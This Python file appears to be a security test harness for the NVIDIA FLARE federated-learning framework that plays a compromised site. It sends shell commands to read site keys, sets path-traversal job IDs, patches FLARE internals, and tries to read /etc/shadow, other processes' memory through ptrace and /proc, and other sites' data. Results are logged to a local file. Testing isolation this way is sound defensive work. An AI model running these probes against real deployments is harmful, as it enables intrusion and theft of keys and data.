"""What an attacker does who has taken over a participant of FLARE's network: it asks everything of everybody.

As a program, `python hostile.py site|server FOLDER TARGET OUT` runs FLARE's own site or server, uncut, with an attack
beside it; `python hostile.py local PORT SITE OUT` has no kit at all. `Intruder` attacks in the process of a job. No
import of ours at the top: a copy of this file is put where a confined process can read it.
"""

import ctypes
import json
import os
import signal
import socket
import struct
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path

UUID = "12345678-1234-1234-1234-123456789abc"
NONE = "no answer"
BESIDE, DATAGRAM = "connect to a Unix socket of another program of this account", "send a datagram"


def asked(cell, target, folder, registered=None):
    """Ask a cell on every channel and topic that our own cell has, and every command of a site; return its answers."""
    from nvflare.private.admin_defs import Message as Command
    from nvflare.private.defs import CellChannel, new_cell_message
    from nvflare.private.fed.client.client_req_processors import ClientRequestProcessors

    def answer(channel, topic, payload, core):
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, ReturnCode

        sender = cell.core_cell if core else cell
        reply = sender.send_request(
            channel=channel, topic=topic, target=target, request=new_cell_message({}, payload), timeout=4.0
        )
        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
        if code in (
            ReturnCode.TIMEOUT,
            ReturnCode.COMM_ERROR,
            ReturnCode.TARGET_UNREACHABLE,
            ReturnCode.UNAUTHENTICATED,
        ):
            return NONE
        return f"{code}: {getattr(reply.payload, 'body', reply.payload)!r:.300}"

    questions = {}
    for channel, topic in registered or known(cell):
        for core in (True, False):
            name = f"{channel}/{topic}{'' if core else ' as a stream'}"
            questions[name] = (channel, "stop_cell" if topic == "*" else topic, {"x": 1}, core)
    topics = sorted({topic for one in ClientRequestProcessors.request_processors for topic in one.get_topics()})
    bodies = [f"{word} {folder}/{name}" for word in ("cat", "head -n 9") for name in ("table.csv", "identity/site.key")]
    for topic in topics:
        for number, body in enumerate([*bodies, f"ls -a {folder}"] if topic == "sys.shell" else [""]):
            command = Command(topic=topic, body=body)
            command.set_header("job_id", "../runs")
            command.set_header("job_meta", {"job_id": "../runs"})
            command.set_header("app_name", "app")
            questions[f"command {topic} {number}"] = (CellChannel.CLIENT_MAIN, topic, command, True)
            questions[f"command {topic} {number} as admin"] = (CellChannel.CLIENT_MAIN, "admin", command, True)
    for name, names in {"meta": (UUID, "app", "../runs"), "app": (UUID, "../app", UUID)}.items():
        command = Command(topic="train.deploy", body="")
        for key, value in zip(("job_id", "app_name", "job_meta"), (*names[:2], {"job_id": names[2]})):
            command.set_header(key, value)
        questions[f"command train.deploy {name} as admin"] = (CellChannel.CLIENT_MAIN, "admin", command, True)
    with ThreadPoolExecutor(40) as pool:
        waiting = {name: pool.submit(answer, *question) for name, question in questions.items()}
    return {name: _result(one) for name, one in waiting.items()}


def _result(future):
    try:
        return future.result()
    except Exception as error:
        return f"{NONE} ({type(error).__name__})"


def known(cell):
    """Return all channels and topics that a cell answers to, streams too, by FLARE's own registries."""
    keys = {*cell.core_cell.req_reg.reg, *cell.byte_receiver.registry.reg, "cellnet.channel:bulk", "admin:*"}
    return sorted(tuple(key.split(":", 1)) for key in keys)


def attempts(kit, ours, beside):
    """Try what a program can do on its machine; return what came of it.

    `kit` is the site's folder, `ours` are processes of the site's own, `beside` is the Unix socket of another program.
    """
    kit = Path(kit)
    found = {}

    def attempt(what, act):
        try:
            said = act()
            found[what] = f"done: {json.dumps(said) if isinstance(said, dict) else repr(said)[:200]}"
        except BaseException as error:
            found[what] = f"refused: {type(error).__name__} {error!s:.120}"

    for name in ("table.csv", "policy.toml", "ledger.jsonl", "identity/site.key", "console.log"):
        attempt(f"open {name}", lambda name=name: (kit / name).read_bytes())
        attempt(f"write {name}", lambda name=name: (kit / name).open("ab").close())
    attempt("list the kit", lambda: os.listdir(kit))
    attempt("list runs", lambda: os.listdir(kit / "runs"))
    attempt("make a file in the kit", lambda: (kit / "new").write_text("x"))
    attempt("rename the policy", lambda: (kit / "policy.toml").rename(kit / "network" / "policy.toml"))
    attempt("link the table", lambda: os.link(kit / "table.csv", kit / "network" / "linked.csv"))
    attempt("open the table by a symbolic link", lambda: _by_symlink(kit))
    attempt("open another site's table", lambda: (kit.parent / "south" / "table.csv").read_bytes())
    attempt("list the home folder", lambda: os.listdir(Path.home()))
    attempt("open /etc/shadow", lambda: Path("/etc/shadow").read_bytes())
    attempt("make a file in /tmp", lambda: Path("/tmp/of-an-attacker").write_text("x"))
    attempt("mount", lambda: _checked(ctypes.CDLL(None, use_errno=True).mount(b"none", b"/mnt", b"tmpfs", 0, None)))
    attempt("list processes", lambda: os.listdir("/proc"))
    attempt("connect to an abstract socket", lambda: _at_socket("\0" + beside))
    attempt(BESIDE, lambda: _at_socket(beside))
    attempt(DATAGRAM, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)))
    for number, pid in enumerate(ours):
        for name in ("mem", "environ", "maps", "fd", "cwd/table.csv", "root/etc/hostname"):
            path = Path(f"/proc/{pid}/{name}")
            attempt(
                f"process {number}: {name}", lambda path=path: os.listdir(path) if path.name == "fd" else _first(path)
            )
        attempt(f"process {number}: ptrace", lambda pid=pid: _traced(pid))
        attempt(f"process {number}: process_vm_readv", lambda pid=pid: _memory(pid))
        attempt(f"process {number}: a signal", lambda pid=pid: os.kill(pid, 0))
        attempt(f"process {number}: another signal", lambda pid=pid: os.kill(pid, signal.SIGCONT))
    for port in (22, 80, 5432):
        attempt(f"connect to port {port}", lambda port=port: _connected("127.0.0.1", port))
    attempt("listen on a port", lambda: socket.create_server(("127.0.0.1", 0)).getsockname())
    attempt("the line", lambda: line(kit))
    return found


def line(kit):
    """Connect to the line of a site's own process as its own process of a job does, and ask for everything."""
    from multiprocessing.connection import Connection

    said = {}
    os.chdir(kit / "network")
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("../line")
        pipe = Connection(os.dup(one.fileno()))
        head = struct.Struct("!cQI")
        questions = {
            "open": {"what": "open", "path": "table.csv"}, "where": {"what": "where"}, "nothing": {},
            "a run": {"what": "begin", "run": "../../x"}, "another run": {"what": "begin", "run": "y"},
            "south": {"what": "ask", "caller": "south"}, "call": {"what": "call", "name": "south", "seconds": 1},
        }  # fmt: skip
        for number, (name, question) in enumerate(questions.items()):
            words = json.dumps(question).encode()
            pipe.send_bytes(head.pack(b"Q", number, len(words)) + words + b'title = "x"')
            answer = pipe.recv_bytes(1 << 20)
            said[name] = f"{answer[:1].decode()} {answer[head.size :].decode()}"
        time.sleep(15.0)
        words = json.dumps({"what": "where"}).encode()
        pipe.send_bytes(head.pack(b"Q", 99, len(words)) + words)
        answer = pipe.recv_bytes(1 << 20)
        said["where at last"] = f"{answer[:1].decode()} {answer[head.size :].decode()}"
        pipe.close()
    return said


def _by_symlink(kit):
    link = kit / "network" / "symbolic.csv"
    link.unlink(missing_ok=True)
    link.symlink_to(kit / "table.csv")
    return link.read_bytes()


def _at_socket(name):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(name)
    return "connected"


def _first(path):
    with path.open("rb") as file:
        if path.name == "mem":
            file.seek(int(Path(f"/proc/{path.parts[2]}/maps").read_text().split("-")[0], 16))
        return file.read(16)


def _traced(pid):
    _checked(ctypes.CDLL(None, use_errno=True).ptrace(16, pid, 0, 0))  # PTRACE_ATTACH
    ctypes.CDLL(None).ptrace(17, pid, 0, 0)
    return "attached"


def _memory(pid):
    here = ctypes.create_string_buffer(16)
    vector = struct.pack("NN", ctypes.addressof(here), 16)
    there = struct.pack("NN", 0x400000, 16)
    return _checked(ctypes.CDLL(None, use_errno=True).process_vm_readv(pid, vector, 1, there, 1, 0))


def _connected(host, port):
    with socket.socket() as one:
        one.settimeout(2.0)
        one.connect((host, port))
    return "connected"


def _checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


class Intruder:
    """Attacks from the process of a job at north; the same class at south, and at the server, does nothing."""

    def __init__(self, kit="", ours=(), beside="", run="", sites=()):
        self.kit, self.ours, self.beside, self.state = kit, ours, beside, "running"

    def _attack(self, cell, job):
        out = {"known": known(cell), "here": attempts(self.kit, self.ours, self.beside)}
        for target, name in (("south", "south"), ("server", "server"), (f"south.{job}", "job of south")):
            out[name] = asked(cell, target, self.kit)
        Path(self.kit, "network", "found.json").write_text(json.dumps(out))
        self.state = "done"


def collab_classes():
    """Make the two classes that FLARE builds: FLARE is imported here."""
    from nvflare.collab.api import decorators as collab
    from nvflare.collab.api.constants import FL_CONTEXT_PROP

    class AtSite(Intruder):
        @collab.init
        def begin(self, context):
            if context.app.name != "north":
                self.state = "done"
                return
            fl_ctx = context.app.get_prop(FL_CONTEXT_PROP)
            cell = fl_ctx.get_engine().get_cell()
            threading.Thread(target=self._attack, args=(cell, fl_ctx.get_job_id()), daemon=True).start()

        @collab.publish
        def where(self):
            return self.state

    class AtServer(Intruder):
        @collab.main
        def watch(self, context):
            while not context.is_aborted():
                with suppress(Exception):
                    if all(proxy(timeout=10.0).where() == "done" for proxy in context.clients):
                        break
                time.sleep(0.5)
            return "done"

    return AtSite, AtServer


def main():
    role, first, second, out = sys.argv[1:5]
    sys.argv = sys.argv[:1] + sys.argv[5:]
    if role == "local":
        return _local(int(first), second, Path(out))
    from nvflare.fuel.f3.mpm import MainProcessMonitor

    def attack(cell):
        time.sleep(3.0)
        Path(out).write_text(json.dumps(asked(cell, second, first)))

    if role == "site":
        import nvflare.private.fed.app.client.client_train as program

        made = program.create_admin_agent

        def agent(processors, client, engine):
            found = made(processors, client, engine)
            threading.Thread(target=attack, args=(client.cell,), daemon=True).start()
            return found

        program.create_admin_agent = agent
    else:
        import nvflare.private.fed.app.server.server_train as program
        from nvflare.private.fed.server.fed_server import FederatedServer

        heard, begun = FederatedServer.client_heartbeat, threading.Event()

        def heartbeat(self, *given, **named):
            answer = heard(self, *given, **named)
            if not begun.is_set():
                begun.set()
                threading.Thread(target=attack, args=(self.cell,), daemon=True).start()
            return answer

        FederatedServer.client_heartbeat = heartbeat
    args = program.parse_arguments()
    sys.exit(MainProcessMonitor.run(main_func=program.main, run_dir=args.workspace, args=args))


def _local(port, site, out):
    """Be a user of the machine without a kit: connect to the port that FLARE opens at a site for its jobs."""
    import importlib

    from nvflare.apis.utils.decomposers import flare_decomposers
    from nvflare.fuel.f3.cellnet.cell import Cell

    f3, private = "nvflare.fuel.f3", "nvflare.private"
    for name in (  # loaded before the user is changed, who may not read them
        "asyncio", "ssl", "psutil", f"{f3}.cellnet.net_agent", f"{f3}.drivers.tcp_driver", f"{private}.admin_defs",
        f"{private}.fed.client.client_req_processors",
    ):  # fmt: skip
        importlib.import_module(name)
    flare_decomposers.register()
    file = out.open("w")
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    cell = Cell(
        fqcn=f"{site}.{UUID}", root_url="tcp://127.0.0.1:1", secure=False, credentials={},
        create_internal_listener=False, parent_url=f"tcp://127.0.0.1:{port}",
    )  # fmt: skip
    cell.start()
    time.sleep(2.0)
    file.write(json.dumps(asked(cell, site, "/", [("admin", "*")])))
    file.close()
    os._exit(0)


if __name__ == "__main__":
    main()
elif __name__ == "hostile":  # a copy, imported by FLARE
    AtSite, AtServer = collab_classes()
